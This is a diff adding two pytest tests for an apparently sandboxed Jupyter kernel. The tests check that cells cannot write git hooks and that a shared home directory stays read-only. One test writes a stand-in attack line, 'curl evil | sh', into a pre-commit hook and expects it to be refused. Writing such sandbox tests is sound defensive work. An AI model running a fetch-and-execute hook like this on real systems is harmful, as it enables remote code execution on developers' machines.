@@ -326,3 +326,33 @@ def test_a_script_larger_than_the_argument_limit_runs(kernel):
     assert r.stdout.startswith("big script ran as /tmp/.mino-cell-")  # copied in as a file
     r = kernel.ok("%%mino\nls -a /tmp | grep -c '^[.]mino-cell-.*[.]sh$' || true")
     assert r.stdout.strip() == "0"  # and removed afterwards
+
+
+def test_host_code_paths_in_the_workspace_stay_read_only(kernel, workspace):
+    hooks = workspace / ".git" / "hooks"
+    hooks.mkdir(parents=True)
+    os.chown(workspace / ".git", 1000, 1000), os.chown(hooks, 1000, 1000)  # writable, were it not protected
+    r = kernel.ok("%%mino\necho 'curl evil | sh' > .git/hooks/pre-commit 2>/dev/null || echo refused\n"
+                  "echo fine > notes.txt && echo written")
+    assert r.stdout == "refused\nwritten\n"
+    assert not (hooks / "pre-commit").exists() and (workspace / "notes.txt").read_text() == "fine\n"
+
+
+def test_a_home_directory_is_shared_read_only(engine, base_image, tmp_path):
+    from mino_jupyter.sessions import CellOptions, SessionManager
+    from tests.kernel import Capture
+
+    home = tmp_path / "home"
+    home.mkdir()
+    os.chown(home, 1000, 1000)
+    notices = []
+    m = SessionManager(cwd=lambda: home, notice=notices.append, watchdog=False,
+                       env={**os.environ, **isolated_env(tmp_path / "mino-home"), "HOME": str(home)})
+    try:
+        sink = Capture()
+        m.run_cell("touch /workspace/.bashrc 2>/dev/null || echo read-only", CellOptions(), sink)
+        assert "".join(sink.out) == "read-only\n"
+        assert any("contains a home directory, so it is shared read-only" in n for n in notices)
+        assert not (home / ".bashrc").exists()
+    finally:
+        m.shutdown()
